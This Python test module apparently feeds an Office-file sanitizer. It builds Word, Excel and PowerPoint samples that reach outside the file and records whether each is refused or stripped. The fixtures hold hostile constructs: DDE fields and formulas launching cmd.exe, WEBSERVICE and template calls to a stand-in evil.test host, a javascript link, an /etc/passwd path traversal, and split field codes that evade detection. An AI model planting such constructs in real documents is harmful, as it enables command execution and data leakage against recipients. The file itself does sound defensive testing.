"""Office files that reach outside: by relations, attributes, fields and formulas."""

from collections.abc import Callable

from files.cleaning.kinds import DOCX, PPTX, XLSX
from files.tests.corpus.case import SVG, Case, kept, refused
from files.tests.samples import OFFICE_RELATIONS, RELATIONS, office, picture

EVIL = "https://evil.test/a"


def external(kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="rX" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>{more}'


def linked(kind: str, target: str) -> str:
    return f'<Relationship Id="rI" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}"/>'


def instruction(*runs: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}</w:p>'


def sheet(formula: str) -> bytes:
    cell = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f><v>42</v></c></row></sheetData></worksheet>'
    return office(
        XLSX, more={"xl/worksheets/sheet1.xml": cell.encode()}, rels=linked("worksheet", "worksheets/sheet1.xml")
    )


def cells(body: str) -> bytes:
    """Return a workbook whose sheet holds this."""
    content = f'<worksheet xmlns:x14="urn:x14" xmlns:xm="urn:xm"><sheetData/>{body}</worksheet>'.encode()
    rels = linked("worksheet", "worksheets/sheet1.xml")
    return office(XLSX, more={"xl/worksheets/sheet1.xml": content}, rels=rels)


def with_part(kind: str, relation: str, part: str, content: str, rels: str = "", body: str = "") -> bytes:
    """Return a file with one more part, and the relations of that part."""
    folder, _slash, own = part.rpartition("/")
    more = {part: content.encode()}
    if rels:
        more[f"{folder}/_rels/{own}.rels"] = f'<Relationships xmlns="{RELATIONS}">{rels}</Relationships>'.encode()
    return office(kind, body, more, linked(relation, "/" + part))


def settings(body: str, rels: str = "") -> bytes:
    return with_part(DOCX, "settings", "word/settings.xml", f"<w:settings>{body}</w:settings>", rels)


def slide(body: str, rels: str = "") -> bytes:
    return with_part(PPTX, "slide", "ppt/slides/slide1.xml", f"<p:sld>{body}</p:sld>", rels)


def alternative_content() -> bytes:
    """Return a document that takes in a page of HTML when it is opened."""
    more = {"word/chunk.xhtml": b'<html><img src="https://evil.test/a"/></html>'}
    return office(body='<w:altChunk r:id="rI"/>', more=more, rels=linked("aFChunk", "chunk.xhtml"))


def mode(value: str, kind: str = "image") -> bytes:
    relation = f'<Relationship Id="rX" Type="{OFFICE_RELATIONS}/{kind}" Target="{EVIL}" TargetMode="{value}"/>'
    return office(rels=relation)


def of_unknown_type(kind: str) -> bytes:
    """Return a document that leads to a part by a relation of this type."""
    relation = f'<Relationship Id="rI" Type="{kind}" Target="settings.xml"/>'
    return office(more={"word/settings.xml": b"<w:settings/>"}, rels=relation)


def chart(formula: str) -> bytes:
    """Return a document with a chart of this source, which holds the workbook it was made from."""
    body = (
        f'<c:chartSpace><c:numRef><c:f>{formula}</c:f><c:v>7</c:v></c:numRef><c:externalData r:id="rI"/></c:chartSpace>'
    )
    rels = linked("package", "../embeddings/a.xlsx")
    return with_part(DOCX, "chart", "word/charts/chart1.xml", body, rels)


def rule(tag: str, formula: str) -> str:
    return {
        "cf": f"<conditionalFormatting><cfRule><formula>{formula}</formula></cfRule></conditionalFormatting>",
        "scale": f'<conditionalFormatting><cfRule><cfvo type="formula" val="{formula}"/></cfRule></conditionalFormatting>',
        "dv": f'<dataValidations count="1"><dataValidation><formula1>{formula}</formula1></dataValidation></dataValidations>',
        "x14": f"<extLst><ext><x14:dataValidations><x14:dataValidation><x14:formula1><xm:f>{formula}</xm:f></x14:formula1>"
        "</x14:dataValidation></x14:dataValidations></ext></extLst>",
        "nested": f"<dataValidations><dataValidation><formula1><b>{formula}</b></formula1></dataValidation></dataValidations>",
    }[tag]


FETCH = f"WEBSERVICE(&quot;{EVIL}&quot;)"
EVILS = (b"evil.test", b"WEBSERVICE")


def sheet_of(label: str, formula: str, *gone: bytes) -> Case:
    """Return the case of a cell's formula that goes, while its value stays."""
    return kept(label, lambda: sheet(formula), *gone, kept_as="note.xlsx")


def word(label: str, make: Callable[[], bytes], *gone: bytes) -> Case:
    return kept(label, make, *gone, kept_as="note.docx")


RELATED = [
    word("a template elsewhere", lambda: settings('<w:attachedTemplate r:id="rX"/>', external("attachedTemplate", EVIL)),
         b"evil.test", b"attachedTemplate"),
    refused("a picture elsewhere", lambda: office(rels=external("image", "https://evil.test/a.png")), "outside"),
    refused("the same, its mode in small letters", lambda: mode("external"), "outside"),
    refused("the same, its mode with a space", lambda: mode("External "), "outside"),
    refused("a link whose mode is in small letters", lambda: mode("EXTERNAL", "hyperlink"), "outside"),
    word("a link that is a script", lambda: office(body='<w:hyperlink r:id="rX"><w:t>here</w:t></w:hyperlink>',
         rels=external("hyperlink", "javascript:alert(1)")), b"javascript", b"rX"),
    word("a link to a share", lambda: office(rels=external("hyperlink", "file://evil.test/a")), b"evil.test"),
    word("a link to a file beside", lambda: office(rels=external("hyperlink", "..%5Ca.docm")), b"a.docm"),
    refused("a program in a document", lambda: office(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf"},
            rels=linked("oleObject", "embeddings/oleObject1.bin")), "embedded"),
    refused("a program in slides", lambda: office(PPTX, more={"ppt/embeddings/a.exe": b"MZ"},
            rels=linked("oleObject", "embeddings/a.exe")), "embedded"),
    refused("a page of HTML taken in", alternative_content, "embedded"),
    refused("the same without a relation", lambda: office(body='<w:altChunk r:id="rI"/>'), "embedded"),
    refused("a document below it", lambda: office(body='<w:subDoc r:id="rX"/>', rels=external("subDocument", "a.docx")),
            "outside"),
    refused("a control", lambda: office(body='<w:object><w:control r:id="rI"/></w:object>'), "macros"),
    refused("an object of another program", lambda: office(body='<w:object><o:OLEObject Type="Link"/></w:object>'),
            "embedded"),
    refused("a relation nobody knows", lambda: of_unknown_type(f"{OFFICE_RELATIONS}/future"), "part"),
    refused("a relation of another maker", lambda: of_unknown_type("urn:evil/settings"), "part"),
    refused("a part that is said to be another", lambda: of_unknown_type(f"{OFFICE_RELATIONS}/header"), "part"),
    refused("a video elsewhere", lambda: slide("<p:pic/>", external("video", EVIL)), "outside"),
    refused("a film in slides", lambda: office(PPTX, more={"ppt/media/a.mp4": b"a"}, rels=linked("media", "media/a.mp4")),
            "part"),
    word("a drawing of SVG", lambda: office(more={"word/media/a.svg": SVG}, rels=linked("image", "media/a.svg")), b"alert"),
    refused("a drawing of Windows", lambda: office(more={"word/media/a.emf": b"\x01\0\0\0"},
            rels=linked("image", "media/a.emf")), "part"),
    refused("HTML as a picture", lambda: office(more={"word/media/a.png": SVG}, rels=linked("image", "media/a.png")), "part"),
    word("a picture under another name", lambda: office(more={"word/media/a.tmp": picture()},
         rels=linked("image", "media/a.tmp"))),
    refused("a relation out of the file", lambda: office(rels=linked("image", "../../etc/passwd")), "path"),
    refused("a relation to a share", lambda: office(rels=linked("image", "\\\\evil.test\\a.png")), "path"),
    refused("a source of data", lambda: with_part(XLSX, "connections", "xl/connections.xml", "<connections/>"), "outside"),
    refused("a pivot table on data elsewhere", lambda: with_part(XLSX, "pivotCacheDefinition",
            "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition/>", external("externalLinkPath", EVIL, linked(
            "queryTable", "a.xml"))), "outside"),
    kept("a link to another workbook", lambda: with_part(XLSX, "externalLink", "xl/externalLinks/externalLink1.xml", "<a/>",
         external("externalLinkPath", EVIL), '<externalReferences><externalReference r:id="rI"/></externalReferences>'),
         b"evil.test", b"externalReference", kept_as="note.xlsx"),
    word("data bound from outside", lambda: office(body='<w:sdtPr><w:dataBinding w:xpath="/secret"/></w:sdtPr>',
         more={"customXml/item1.xml": b"<secret/>"}, rels=linked("customXml", "../customXml/item1.xml")), b"secret"),
    word("fonts in a document", lambda: with_part(DOCX, "fontTable", "word/fontTable.xml",
         '<w:fonts><w:font w:name="A"><w:embedRegular r:id="rI"/></w:font></w:fonts>', linked("font", "fonts/a.odttf")),
         b"embedRegular", b"odttf"),
    word("a page of frames", lambda: office(more={"word/webSettings.xml": b"<w:frameset/>"},
         rels=linked("webSettings", "webSettings.xml")), b"frameset"),
    word("a chart with its workbook", lambda: chart("Sheet1!$A$1:$A$9"), b"externalData", b"embeddings"),
    word("a chart of another workbook", lambda: chart("[1]Sheet1!$A$1"), b"[1]"),
]  # fmt: skip
MARKED = [
    word("a mail merge", lambda: settings(
         '<w:mailMerge><w:connectString w:val="Data Source=evil.test"/><w:dataSource r:id="rX"/></w:mailMerge>',
         external("mailMergeSource", EVIL)), b"evil.test", b"mailMerge"),
    word("a drawing with a picture elsewhere", lambda: office(body=f'<v:shape><v:imagedata src="{EVIL}"/></v:shape>'),
         b"evil.test"),
    word("a drawing with a picture beside", lambda: office(body='<v:imagedata src="evil.png" o:href="b"/>'), b"evil.png"),
    word("a drawing with a link", lambda: office(body=f'<v:shape href="{EVIL}" style="a:b"/>'), b"evil.test"),
    word("a drawing filled from a share", lambda: office(body='<v:fill o:other="\\\\evil.test\\a"/>'), b"evil.test"),
    word("a style that fetches", lambda: office(body=f'<v:shape style="background:url({EVIL})"/>'), b"evil.test"),
    word("an address of everything", lambda: office(body=f'<w:p xml:base="{EVIL}"/>'), b"evil.test"),
    word("a stylesheet in an instruction", lambda: office(body=f'<?xml-stylesheet href="{EVIL}"?>'), b"evil.test"),
    word("a comment in the markup", lambda: office(body=f"<!-- {EVIL} -->"), b"evil.test"),
    kept("a program behind a button", lambda: slide('<a:hlinkClick r:id="" action="ppaction://program"/>'), b"program",
         kept_as="note.pptx"),
    kept("a macro behind a button", lambda: slide('<a:hlinkClick r:id="" action="ppaction://macro?name=evil"/>'), b"evil",
         kept_as="note.pptx"),
    kept("a macro behind a shape", lambda: cells('<xdr:sp macro="[0]!evil" textlink="[1]S!A1"/>'), b"evil", b"[1]",
         kept_as="note.xlsx"),
    word("the account of an author", lambda: office(body='<p15:author name="A" userId="S::private@evil.test"/>'), b"private"),
    refused("a field that starts a program", lambda: office(body=instruction("DDEAUTO c:\\cmd.exe")), "formula"),
    refused("such a field in pieces", lambda: office(body=instruction(" DD", "EAU", "TO x")), "formula"),
    refused("such a field in a deleted run", lambda: office(
            body=instruction("DDE x").replace("instrText", "delInstrText")), "formula"),
    refused("such a field made by another", lambda: office(body=instruction(" ") + instruction("QUOTE 68 68 69")), "formula"),
    refused("a field without a beginning", lambda: office(body="<w:instrText>INCLUDETEXT x</w:instrText>"), "formula"),
    refused("a field that fetches", lambda: office(body='<w:fldSimple w:instr="INCLUDEPICTURE x"/>'), "formula"),
    refused("a field for documents elsewhere", lambda: office(body=instruction("RD c:\\a.docx")), "formula"),
    refused("a field nobody knows", lambda: office(body=instruction("FUTURE x")), "formula"),
    refused("a field that links to a share", lambda: office(
            body=instruction(' HYPERLINK "\\\\\\\\evil.test\\\\a" ')), "outside"),
]  # fmt: skip
COMPUTED = [
    sheet_of("a formula that starts a program", "cmd|'/c calc'!A0", b"calc'", b"cmd"),
    sheet_of("a formula that fetches", FETCH, *EVILS),
    sheet_of("a formula that fetches, in an element", f"<x>{FETCH}</x>", *EVILS),
    sheet_of("a formula that shows a picture", f"_xlfn.IMAGE(&quot;{EVIL}&quot;)", b"evil.test", b"IMAGE"),
    sheet_of("a formula that is a link", f"HYPERLINK(&quot;{EVIL}&quot;,1)", b"evil.test", b"HYPERLINK"),
    sheet_of("a formula on another workbook", "'[1]My sheet'!A1", b"[1]"),
    sheet_of("a formula on a path", "'C:\\evil\\[a.xlsx]S'!A1", b"evil"),
    sheet_of("a formula on a computed place", "INDIRECT(A2)", b"INDIRECT"),
    sheet_of("a formula on a server", "RTD(&quot;evil&quot;,,1)", b"evil"),
    sheet_of("a formula on a cube", "CUBEVALUE(&quot;evil&quot;)", b"evil"),
    sheet_of("a formula handed to another", "MAP(A1:A9,_xleta.WEBSERVICE)", b"WEBSERVICE"),
    sheet_of("a formula between two quotes", "'a&quot;b'!A1+WEBSERVICE(A1)+'c&quot;d'!A1", b"WEBSERVICE"),
    sheet_of("a function nobody knows", "FUTURE(1)", b"FUTURE"),
    kept("a name that fetches", lambda: office(XLSX, body=f'<definedNames><definedName name="a">{FETCH}</definedName>'
         "</definedNames>"), *EVILS, b"definedName", kept_as="note.xlsx"),
    *(kept(f"a {name} that fetches", lambda tag=tag: cells(rule(tag, FETCH)), *EVILS, kept_as="note.xlsx")
      for tag, name in (("cf", "conditional format"), ("scale", "scale of colours"), ("dv", "validation"),
                        ("x14", "validation of a later version"), ("nested", "validation in an element"))),
    kept("a formula shared by cells", lambda: cells(
         f'<c><f t="shared" si="0" ref="A1:A2">{FETCH}</f><v>5</v></c><c><f t="shared" si="0"/><v>6</v></c>'),
         *EVILS, b"shared", kept_as="note.xlsx"),
]  # fmt: skip
HONEST = [
    kept("an honest sum", lambda: sheet("SUM(A2:A9)"), b"Private", sent_as="a.xlsx", kept_as="a.xlsx"),
    kept("an honest link", lambda: office(rels=external("hyperlink", "https://example.org/")), kept_as="note.docx"),
]
REACHING = [*RELATED, *MARKED, *COMPUTED, *HONEST]
